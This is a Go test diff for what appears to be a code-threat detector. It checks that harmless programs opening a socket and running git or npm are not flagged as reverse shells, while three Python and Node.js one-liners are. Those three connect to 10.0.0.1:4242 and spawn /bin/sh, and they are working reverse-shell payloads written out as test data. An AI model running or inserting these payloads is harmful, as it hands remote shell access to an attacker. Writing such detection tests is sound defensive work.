@@ -293,3 +293,32 @@ func FuzzInspect(f *testing.F) {
 		sound(t, text, Inspect(text, Options{Context: Document}))
 	})
 }
+
+// A program that opens a connection and runs another is no shell to elsewhere.
+func TestProgramsAreNoReverseShells(t *testing.T) {
+	shell := func(text string) bool {
+		for _, f := range Inspect(text, Options{}).Threats {
+			if f.Pattern == "reverse_shell" {
+				return true
+			}
+		}
+		return false
+	}
+	for _, text := range []string{
+		"import subprocess, os, socket\ns = socket.create_connection((host, 443))\nsubprocess.run(['git', 'status'])",
+		"const c = net.connect(port);\nexec('npm ls', done)",
+	} {
+		if shell(text) {
+			t.Errorf("%q", text)
+		}
+	}
+	for _, text := range []string{
+		`import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",4242));subprocess.call(["/bin/sh","-i"])`,
+		`import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("sh")`,
+		`var c=net.connect(4242,"10.0.0.1");require("child_process").exec("/bin/sh")`,
+	} {
+		if !shell(text) {
+			t.Errorf("%q", text)
+		}
+	}
+}
